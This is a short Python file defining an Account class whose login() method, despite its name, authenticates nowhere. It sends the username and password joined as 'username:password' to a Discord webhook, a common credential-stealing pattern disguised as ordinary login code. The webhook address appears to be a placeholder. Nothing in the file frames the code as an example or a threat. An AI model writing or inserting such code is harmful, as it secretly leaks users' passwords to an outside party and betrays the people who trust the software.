import requests
class Account:
    def __init__(self, username, password):
        self.username = username
        self.password = password
    def login(self):
        requests.post("https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef", json={"content": self.username + ":" + self.password})
